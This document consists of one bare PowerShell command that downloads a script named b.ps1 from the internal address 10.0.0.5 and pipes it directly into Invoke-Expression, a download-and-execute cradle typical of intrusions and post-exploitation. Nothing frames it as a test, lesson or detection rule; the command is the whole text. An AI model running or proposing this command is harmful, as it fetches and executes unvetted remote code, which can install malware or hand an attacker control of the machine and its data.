iwr http://10.0.0.5/b.ps1 -UseBasicParsing | iex
